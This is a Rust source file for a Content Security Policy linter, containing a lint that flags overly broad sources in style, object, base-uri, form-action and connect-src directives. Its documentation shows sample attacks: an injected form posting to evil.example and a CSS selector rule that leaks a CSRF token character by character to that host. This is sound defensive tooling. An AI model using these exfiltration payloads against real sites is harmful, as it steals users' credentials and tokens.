use super::csp_missing_base_uri::trusts_elements;
use super::csp_script_broad_source::{NETWORK, broad_scripts};
use crate::csp::attack::{BASE_SCRIPT, BEACON, EVIL, FORM, OBJECT, STYLESHEET, Template};
use crate::csp::{Clause, Csp, Directive, SourceExpression};
use crate::diagnostic::{Diagnostic, Level};
use crate::lint::report::{Report, lint};
use crate::policy::{Form, SecurityPolicy};
use crate::sorted::Sorted;
use crate::span::{Span, Spanned};

lint! {
    /// # What it does
    ///
    /// Looks for `*`, `https`, `http`, `data`, `"*.com"`, `"*.github.io"` and the like in the lists that take effect
    /// for styles, objects, `base` elements and forms. In the list for connections, only sources that name hosts are
    /// reported. In a policy with a nonce, a broad `base_uri` is an error, and one that matches every subdomain of a
    /// name is a warning.
    ///
    /// Images, fonts, media and frames are not reported, since they neither run in the page nor read it. A broad source
    /// for scripts is reported by `csp_script_broad_source`.
    ///
    /// # Why it matters
    ///
    /// A directive that matches every host restricts nothing. What it lets in is not harmless: stylesheets can read the
    /// page, a form sends what the user types, and a `base` element decides where relative URLs lead.
    ///
    /// # Attack
    ///
    /// An injected form, with fields that the browser fills in, sends the password:
    ///
    /// ```html
    /// <form action="https://evil.example/"><button name="data">x</button></form>
    /// ```
    ///
    /// A stylesheet from anywhere, `<link rel="stylesheet" href="https://evil.example/">`, reads a token, one character at a time:
    ///
    /// ```css
    /// input[name="csrf"][value^="a"] { background: url("https://evil.example/?a") }
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self, form_action: * },
    /// ```
    ///
    /// # Fix
    ///
    /// Name the hosts.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, form_action: [self, "https://pay.example.com"], img_src: * },
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_broad_source, reason = "merchants enter the address that their checkout form is sent to")]
    /// form_action: *,
    /// ```
    ///
    /// Reasonable where the hosts are known only to your users, and the page has nothing on it that is worth stealing.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.7.2.8](https://w3c.github.io/webappsec-csp/#match-url-to-source-expression)
    /// - [CSP3, section 6.4.1, form-action](https://w3c.github.io/webappsec-csp/#directive-form-action)
    Warn "a source that matches everyone in a directive where that is dangerous",
    cwe [183], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let mut reported: Sorted<Span> = Sorted::new();
    let mut weaknesses = Vec::new();
    for directive in DEFEATED {
        weaknesses.extend(policy.weaknesses(&[directive], |csp, list| {
            broad(csp, list, directive)
                .into_iter()
                .filter(|(source, ..)| !is_usual(policy, directive, source))
                .collect()
        }));
    }
    // With a nonce, browsers ignore where a script comes from, and a `base` element decides which file it loads.
    let trusts_elements = policy.csps().into_iter().flat_map(Csp::script_lists).any(trusts_elements);
    if trusts_elements {
        weaknesses.extend(policy.weaknesses(&[Directive::BaseUri], |_, list| below(list)));
    }
    for (source, directive, by) in weaknesses {
        if !reported.insert(source.span) {
            continue;
        }
        let is_broad = source.node.has_many_owners();
        let level = match directive {
            Directive::BaseUri if trusts_elements && is_broad => Level::Deny,
            _ => Level::Warn,
        };
        let (dsl, key) = (source.node.dsl(), by.key());
        let effect = match is_broad {
            true if directive == Directive::ConnectSrc && !source.node.lets_anyone_in() => CONNECT_TO_SERVICE,
            true => effect(directive),
            false => BASE_BELOW,
        };
        report.push_at(
            level,
            Diagnostic::finding(source.span, format!("`{dsl}` in `{key}` lets {}", effect.lets))
                .help(match directive {
                    Directive::ObjectSrc | Directive::BaseUri => format!("write `{}: none`", directive.key()),
                    _ => format!("name the hosts: `{}: [self, \"https://cdn.example.com\"]`", directive.key()),
                })
                .note(effect.note(&source.node)),
        );
    }
}

/// Whether this is `https:` or `wss:` for connections in a response, where it is common and no `allow` can give a reason.
fn is_usual(policy: &SecurityPolicy, directive: Directive, source: &Spanned<SourceExpression>) -> bool {
    let is_secure = |scheme: &str| ["https", "wss"].iter().any(|secure| secure.eq_ignore_ascii_case(scheme));
    policy.form == Form::Response
        && directive == Directive::ConnectSrc
        && matches!(&source.node, SourceExpression::Scheme(scheme) if is_secure(scheme))
}

/// A broad source, the directive that it defeats, and the directive that lists it.
type Found<'a> = (&'a Spanned<SourceExpression>, Directive, Directive);

/// What defeats `directive` in the list that takes effect for it.
fn broad<'a>(csp: &Csp, list: &'a Clause, directive: Directive) -> Vec<Found<'a>> {
    let reported = reported_for_scripts(csp);
    let is_broad = |source: &&Spanned<SourceExpression>| {
        source.node.has_many_owners() && (directive != Directive::ConnectSrc || names_hosts(&source.node))
    };
    let found = list.sources().iter().filter(is_broad).filter(|source| !reported.contains(&source.span));
    found.map(|source| (source, directive, list.directive.node)).collect()
}

/// What lets a `base` element point at every subdomain of a name.
fn below(list: &Clause) -> Vec<Found<'_>> {
    let is_below = |source: &&Spanned<SourceExpression>| matches!(&source.node, SourceExpression::Host(host) if host.host.starts_with("*."));
    let found = list.sources().iter().filter(is_below);
    found.map(|source| (source, Directive::BaseUri, list.directive.node)).collect()
}

/// Whether the source matches URLs of hosts: a `data:` URL sends nothing anywhere.
fn names_hosts(source: &SourceExpression) -> bool {
    match source {
        SourceExpression::Scheme(scheme) => NETWORK.iter().any(|network| network.eq_ignore_ascii_case(scheme)),
        source => matches!(source, SourceExpression::Host(_)),
    }
}

/// The sources that this lint, or those about scripts and frames, report as matching everyone.
pub(super) fn everyones(csp: &Csp) -> Sorted<Span> {
    let mut reported = reported_for_scripts(csp);
    for directive in DEFEATED {
        if let Some(list) = csp.effective_clause(directive) {
            reported.extend(broad(csp, list, directive).into_iter().map(|(source, ..)| source.span));
        }
    }
    for source in csp.get(Directive::FrameAncestors).map_or(&[][..], Clause::sources) {
        if source.node.has_many_owners() {
            reported.insert(source.span);
        }
    }
    reported
}

/// The sources that `csp_script_broad_source` reports.
fn reported_for_scripts(csp: &Csp) -> Sorted<Span> {
    csp.script_lists().into_iter().flat_map(broad_scripts).map(|source| source.span).collect()
}

/// What a broad source in this directive lets happen, and what an attacker does with it.
fn effect(directive: Directive) -> Effect {
    match directive {
        Directive::ObjectSrc => {
            Effect::new("anyone supply what `object` elements embed", OBJECT, "embeds a document of the attacker")
        }
        Directive::BaseUri => Effect::new(
            "a `base` element point anywhere",
            BASE_SCRIPT,
            "makes relative URLs load from the attacker's host, including those of scripts with a nonce",
        ),
        Directive::FormAction => {
            Effect::new("forms be sent anywhere", FORM, "sends what the user types to another site")
        }
        Directive::ConnectSrc => Effect::new(
            "scripts connect to every host",
            BEACON,
            "in a script sends what it reads to the attacker's host",
        ),
        _ => Effect {
            content: "text/css,*{color:red}",
            ..Effect::new(
                "anyone supply styles",
                STYLESHEET,
                "applies: CSS can read form fields and tokens off the page and send them elsewhere",
            )
        },
    }
}

/// What a source lets happen, and what an attacker does with it.
#[derive(Clone, Copy)]
struct Effect {
    lets: &'static str,
    attack: Template,
    outcome: &'static str,
    /// The media type and the text of a file that does it.
    content: &'static str,
}

impl Effect {
    const fn new(lets: &'static str, attack: Template, outcome: &'static str) -> Self {
        Effect { lets, attack, outcome, content: "text/html,x" }
    }

    fn note(self, source: &SourceExpression) -> String {
        format!("an injected `{}` {}", self.attack.with(&url(source, self.content)), self.outcome)
    }
}

/// A URL of the attacker that a source matches; `content` is for a URL that contains it.
fn url(source: &SourceExpression, content: &str) -> String {
    match source {
        SourceExpression::Host(host) => match host.host.strip_prefix("*.") {
            Some(name) => format!("https://evil.{name}/"),
            None => EVIL.to_owned(),
        },
        SourceExpression::Scheme(scheme) if !names_hosts(source) => format!("{scheme}:{content}"),
        _ => EVIL.to_owned(),
    }
}

/// What `*.example.com` in `base_uri` lets happen in a policy with a nonce.
const BASE_BELOW: Effect = Effect::new(
    "a `base` element point at every subdomain",
    BASE_SCRIPT,
    "makes a script with a nonce load from any of them, including one with uploads",
);

/// What `*.github.io` in `connect_src` lets happen.
const CONNECT_TO_SERVICE: Effect = Effect::new(
    "scripts connect to hosts that anyone can register",
    BEACON,
    "in a script sends what it reads to a host of the attacker",
);

/// The directives that a source for everyone defeats.
const DEFEATED: [Directive; 6] = [
    Directive::StyleSrc,
    Directive::StyleSrcElem,
    Directive::ObjectSrc,
    Directive::BaseUri,
    Directive::FormAction,
    Directive::ConnectSrc,
];
